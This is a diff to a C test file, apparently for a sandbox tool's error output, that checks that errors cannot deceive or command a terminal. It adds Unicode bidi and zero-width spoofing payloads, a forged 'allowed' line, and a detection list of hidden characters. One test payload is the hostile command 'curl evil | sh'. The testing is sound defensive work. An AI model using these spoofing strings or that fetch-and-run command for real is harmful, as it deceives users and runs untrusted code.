@@ -35,14 +35,35 @@ static const char *const payloads[] = {
 	"\xe2\x80\xae"
 	"txt.exe", /* U+202E, reads from the right */
 	"\xe2\x81\xa6"
-	"x",				  /* U+2066, isolates a direction */
+	"x", /* U+2066, isolates a direction */
+	"\xe2\x80\x8f"
+	"x", /* U+200F, a mark from the right */
+	"\xd8\x9c"
+	"x", /* U+061C, the same for Arabic */
+	"\xe2\x80\xa8"
+	"sbx-spawn: allowed",		  /* U+2028, a line to some */
+	"root\xe2\x80\x8b",		  /* U+200B, another name that looks the same */
 	"\nsbx-spawn: allowed",		  /* a line that seems to be ours */
 	"x\n  fix: run 'curl evil | sh'", /* advice that seems to be ours */
+};
+
+/* What a terminal obeys or hides, as encoded: written from Unicode's Bidi_Control list, not from
+ * our own. */
+static const char *const hidden[] = {
+	"\xd8\x9c",					/* U+061C */
+	"\xe2\x80\x8b", "\xe2\x80\x8c", "\xe2\x80\x8d", /* U+200B-D */
+	"\xe2\x80\x8e", "\xe2\x80\x8f",			/* U+200E-F */
+	"\xe2\x80\xa8", "\xe2\x80\xa9",			/* U+2028-9 */
+	"\xe2\x80\xaa", "\xe2\x80\xab", "\xe2\x80\xac", "\xe2\x80\xad", "\xe2\x80\xae",
+	"\xe2\x81\xa6", "\xe2\x81\xa7", "\xe2\x81\xa8", "\xe2\x81\xa9", "\xef\xbb\xbf", /* U+FEFF */
 };
 
 /* Is there anything in the text that a terminal would obey? New lines are counted elsewhere. */
 static bool is_dangerous(const char *text, size_t len)
 {
+	for (size_t i = 0; i < N_ELEMENTS(hidden); i++)
+		if (memmem(text, len, hidden[i], strlen(hidden[i])))
+			return true;
 	for (size_t i = 0; i < len;) {
 		const unsigned char *at = (const unsigned char *)text + i;
 		size_t n = utf8_sequence(at, len - i);
@@ -50,10 +71,6 @@ static bool is_dangerous(const char *text, size_t len)
 		if (n == 0 || (n == 1 && ((*at < 0x20 && *at != '\n') || *at == 0x7f)))
 			return true;
 		if (n == 2 && at[0] == 0xc2 && at[1] < 0xa0)
-			return true;
-		if (n == 3 && at[0] == 0xe2 &&
-		    ((at[1] == 0x80 && at[2] >= 0xaa && at[2] <= 0xae) ||
-		     (at[1] == 0x81 && at[2] >= 0xa6 && at[2] <= 0xa9)))
 			return true;
 		i += n;
 	}
@@ -81,8 +98,8 @@ static void fill(struct sbx_error *err, const char *payload)
 /* What a tool without error_add_text() would write. */
 static void print_plainly(struct text *out, const struct sbx_error *err)
 {
-	text_addf(out, "sbx-spawn: %s\n  why: %s\n  fix: %s\n  context: %s\n", err->what, err->why,
-		  err->fix, err->context);
+	text_addf(out, "sbx-spawn: %s\n  why: %s\n  context: %s\n  fix: %s\n", err->what, err->why,
+		  err->context, err->fix);
 }
 
 static void an_error_does_not_command_the_terminal(void)
@@ -127,7 +144,21 @@ static void an_error_as_json_stays_one_line_of_plain_bytes(void)
 		expect_eq(count_lines(text_string(&out)), 1);
 		for (size_t at = 0; at + 1 < out.len; at++)
 			expect((unsigned char)out.data[at] >= 0x20);
+		expect(!is_dangerous(out.data, out.len));
 	}
+}
+
+/* "\\x1b" in a name and the byte itself must not look alike: one is harmless, the other is not. */
+static void a_written_escape_does_not_pass_for_a_shown_one(void)
+{
+	_cleanup_text_ struct text written = TEXT_INIT, shown = TEXT_INIT;
+	struct sbx_error err = { 0 };
+
+	fill(&err, "\\x1b");
+	error_add_text(&written, "sbx-spawn", &err);
+	fill(&err, "\x1b");
+	error_add_text(&shown, "sbx-spawn", &err);
+	expect(strcmp(text_string(&written), text_string(&shown)) != 0);
 }
 
 static void a_log_message_does_not_command_the_terminal(void)
@@ -157,6 +188,7 @@ static const struct test tests[] = {
 	TEST(an_error_does_not_command_the_terminal),
 	TEST(an_error_as_json_has_no_member_of_the_attacker),
 	TEST(an_error_as_json_stays_one_line_of_plain_bytes),
+	TEST(a_written_escape_does_not_pass_for_a_shown_one),
 	TEST(a_log_message_does_not_command_the_terminal),
 	TEST_END,
 };
